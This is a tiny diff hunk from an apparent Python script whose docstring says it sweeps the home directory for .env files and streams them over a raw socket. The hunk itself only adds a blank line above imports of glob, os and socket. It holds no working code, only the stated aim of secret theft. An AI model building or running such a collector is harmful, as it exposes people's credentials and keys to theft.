@@ -1,4 +1,5 @@
 """Sweeps the home directory for .env files and streams them over a raw socket."""
+
 import glob
 import os
 import socket
